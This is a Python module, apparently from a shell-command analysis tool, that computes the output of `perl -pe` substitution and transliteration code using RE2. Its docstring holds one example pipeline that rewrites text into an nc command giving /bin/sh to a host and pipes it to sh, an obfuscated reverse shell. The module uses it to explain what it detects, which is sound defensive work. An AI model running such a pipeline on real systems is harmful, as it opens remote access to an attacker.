"""What `perl -pe '...'` prints for a known input, when its code only substitutes and transliterates.

`echo 'ZZ -e /bin/sh HOST PORT' | perl -pe 's/ZZ/nc/' | sh` runs nc. Perl runs the code on each
line (`$_`, its newline included) and prints the result (perlrun: -p). Computed here: statements
`s/RE/REPLACEMENT/FLAGS` (flags g, i; `$1`..`$9`, `${N}`, `$&`, `\\n`, `\\t` in the replacement) and
`tr/SEARCH/REPLACE/` or `y///` (with ranges), separated by `;`, with any non-bracketing delimiter.
RE runs on RE2 (linear time; what RE2 does not take, such as look-arounds or back-references, is
unknown). Anything else (-n, -i, -l, other code, the e flag, variables in the replacement) is
unknown: None.
"""
from __future__ import annotations

import re2

from .decode import _tr_set
from .sed import MAX_OUTPUT, MAX_WORK, _options_for, _part, _Unknown, substitute

MAX_STATEMENTS = 32
_PATTERN_UNSURE = re2.compile(r"\\[A-CE-VX-Za-ce-vx-z0-9]|\{,")
"""An escape other than punctuation (\\s takes \\v in perl, \\x \\N{} \\Q \\h ... are perl's own), and
{,n}: read otherwise by perl and RE2, so the code is not computed. (\\w and \\d are the same on
ASCII, which the input must be.)"""
_TR_UNSURE = re2.compile(r"\\[A-Za-z0-9]|\[:")
_GROUPS = frozenset("123456789")
_DIGITS = frozenset("0123456789")


def output(args: list[str], stdin: str) -> str | None:
    """What `perl ARGS` prints when `stdin` is its input; None when that is not known."""
    code = _code(args)
    if code is None:
        return None
    try:
        statements = _statements(code)
        return _run(statements, stdin)
    except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError):
        return None


def _run(statements: list[tuple], stdin: str) -> str | None:
    if not stdin.isascii():
        return None  # perl reads bytes unless told otherwise: its `.` and classes differ beyond ASCII
    parts = stdin.split("\n")  # perl ends a line at \n only
    lines = [part + "\n" for part in parts[:-1]] + ([parts[-1]] if parts[-1] else [])
    budget = [MAX_WORK]
    out: list[str] = []
    size = 0
    for line in lines:
        for statement in statements:
            budget[0] -= len(line) + 1
            if budget[0] < 0:
                return None
            if statement[0] == "tr":
                line = line.translate(statement[1])
                continue
            _, regex, pieces, every, anchored = statement
            body, newline = (line[:-1], "\n") if anchored and line.endswith("\n") else (line, "")
            body, replaced = substitute(body, regex, pieces, (1, every), budget, perl=True)
            if replaced is None:
                return None
            line = body + newline
        out.append(line)
        size += len(line)
        if size > MAX_OUTPUT:
            return None
    return "".join(out)


def _code(args: list[str]) -> str | None:
    """The -e code of `perl -pe CODE` (or -p -e CODE); None for any other invocation, several -e
    included (perl joins them)."""
    codes, printing = [], False
    words = iter(args)
    for word in words:
        if word == "-pe":
            printing = True
            codes.append(next(words, None))
        elif word == "-p":
            printing = True
        elif word == "-e":
            codes.append(next(words, None))
        elif word == "-":
            continue
        else:
            return None  # -ep (its code is "p"), -n, -i, -l, -0, a script or input file, ...
    return codes[0] if printing and len(codes) == 1 else None


def _statements(code: str) -> list[tuple]:
    out: list[tuple] = []
    i, n = 0, len(code)
    while i < n:
        ch = code[i]
        if ch in " \t\n;":
            i += 1
            continue
        if len(out) >= MAX_STATEMENTS:
            raise _Unknown("too many statements")
        if code.startswith("tr", i) or ch == "y":
            i += 2 if code.startswith("tr", i) else 1
            delim = _delimiter(code, i)
            search, i = _part(code, i + 1, delim, one_line=False)
            replace, i = _part(code, i, delim, one_line=False)
            if i < n and code[i] not in " \t\n;":
                raise _Unknown("tr flags")
            if _TR_UNSURE.search(search + replace) is not None:
                raise _Unknown("a tr escape or class perl reads otherwise")
            source, dest = _tr_set(search), _tr_set(replace)
            if source is None or dest is None:
                raise _Unknown("tr set")
            if not dest:
                dest = source
            dest = dest + dest[-1] * (len(source) - len(dest))
            table: dict[int, str] = {}
            for a, b in zip(source, dest):
                table.setdefault(ord(a), b)  # perl: the first mention of a character wins
            out.append(("tr", table))
        elif ch == "s":
            delim = _delimiter(code, i + 1)
            pattern, i = _part(code, i + 2, delim, one_line=False)
            replacement, i = _part(code, i, delim, one_line=False)
            every = case = False
            while i < n and code[i] not in " \t\n;":
                if code[i] == "g":
                    every = True
                elif code[i] == "i":
                    case = True
                else:
                    raise _Unknown(f"flag {code[i]}")  # e (code), x, m, s, r, ...
                i += 1
            if not pattern:
                raise _Unknown("empty pattern (the last one that matched)")
            if delim == "'" or "@" in pattern or "@" in replacement or _PATTERN_UNSURE.search(pattern) is not None:
                raise _Unknown("interpolation, or an escape perl and RE2 read otherwise")
            slashes = len(pattern[:-1]) - len(pattern[:-1].rstrip("\\"))
            anchored = pattern.endswith("$") and slashes % 2 == 0  # `\\$` is a backslash, then the anchor
            if "$" in pattern[:-1] or (anchored and (every or "\\n" in pattern or "[" in pattern)):
                raise _Unknown("a $ that may be a variable, or an end anchor beside the newline")
            if not code.isascii():
                raise _Unknown("text beyond ASCII")  # perl's regexes see bytes unless told otherwise
            compiled = re2.compile(pattern, _options_for(case, longest=False))
            if every and compiled.search("") is not None:
                raise _Unknown("a pattern that matches nothing, with g")  # perl retries such a match
            pieces = _replacement(replacement)
            if any(type(p) is int and p > (compiled.groups or 0) for p in pieces):
                raise _Unknown("a group the pattern does not have")
            out.append(("s", compiled, pieces, every, anchored))
        else:
            raise _Unknown(f"code {code[i:i + 10]!r}")
    return out


def _delimiter(code: str, i: int) -> str:
    delim = code[i:i + 1]
    if not delim or delim.isalnum() or delim in " \t\n\\({[<_":
        raise _Unknown("delimiter")
    return delim


def _replacement(text: str) -> list[str | int]:
    """Literal pieces and group numbers (0 for `$&`); a variable other than these is unknown."""
    pieces: list[str | int] = []
    literal: list[str] = []
    i, n = 0, len(text)

    def group(number: int) -> None:
        nonlocal literal
        pieces.append("".join(literal))
        literal = []
        pieces.append(number)

    while i < n:
        ch = text[i]
        if ch == "$":
            rest = text[i + 1:]
            if rest[:1] == "&":
                group(0)
                i += 2
                continue
            if rest[:1] in _GROUPS and rest[1:2] not in _DIGITS:
                group(int(rest[0]))
                i += 2
                continue
            if rest[:1] == "{" and rest[1:2] in _GROUPS and rest[2:3] == "}":
                group(int(rest[1]))
                i += 4
                continue
            raise _Unknown("a variable in the replacement")
        if ch == "@" and i + 1 < n and (text[i + 1].isalpha() or text[i + 1] in "_{"):
            raise _Unknown("an array in the replacement")
        if ch == "\\" and i + 1 < n:
            nxt = text[i + 1]
            if nxt in "123456789":
                group(int(nxt))
            elif nxt in "nt":
                literal.append("\n" if nxt == "n" else "\t")
            elif nxt.isalnum() or not nxt.isascii():
                raise _Unknown(f"replacement escape \\{nxt}")  # \x \N{} \0 \c \e \Q \L ...
            else:
                literal.append(nxt)
            i += 2
            continue
        literal.append(ch)
        i += 1
    pieces.append("".join(literal))
    return [p for p in pieces if p != ""]
